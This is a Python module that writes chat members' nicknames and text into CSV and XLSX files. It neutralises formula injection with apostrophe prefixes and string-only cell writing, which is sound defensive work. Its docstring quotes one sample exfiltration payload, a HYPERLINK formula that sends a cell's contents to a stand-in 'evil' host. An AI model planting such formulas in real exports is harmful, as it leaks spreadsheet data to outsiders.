"""Files staff open in a spreadsheet (CSV and XLSX): chat members' words written as text.

Chat members choose their nicknames, so a name like ``=HYPERLINK("http://evil/?"&B2,"点我")``
must not become a live formula when finance opens the refund list. Every string cell that a
spreadsheet would read as a formula (it starts with ``= + - @``, a tab or a carriage return)
gets a leading apostrophe (OWASP's advice for CSV injection), and XLSX cells are written as
strings, never turned into formulas, numbers or links by the writer.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX_OPTIONS = {"in_memory": True, "constant_memory": True, "strings_to_formulas": False,
                "strings_to_numbers": False, "strings_to_urls": False}


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet should hold it: numbers as numbers, text never a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV with a BOM (Excel then opens Chinese text as UTF-8), every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return "\ufeff" + out.getvalue()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    return csv_text(header, rows).encode("utf-8")


def xlsx_bytes(sheet: str, header: Sequence[str], rows: Iterable[Sequence[Any]],
               widths: dict[int, int] | None = None) -> bytes:
    """One sheet, a bold header row, strings written as strings."""
    import xlsxwriter  # type: ignore[import-untyped]

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, XLSX_OPTIONS)
    page = book.add_worksheet(sheet)
    bold = book.add_format({"bold": True})
    page.write_row(0, 0, [safe_cell(h) for h in header], bold)
    for i, row in enumerate(rows, start=1):
        for j, value in enumerate(row):
            value = safe_cell(value)
            if value is None:
                continue
            if isinstance(value, str):
                page.write_string(i, j, value)
            elif isinstance(value, bool):
                page.write_boolean(i, j, value)
            elif isinstance(value, int | float):
                page.write_number(i, j, value)
            else:
                page.write_string(i, j, str(value))
    for column, width in (widths or {}).items():
        page.set_column(column, column, width)
    book.close()
    return buffer.getvalue()
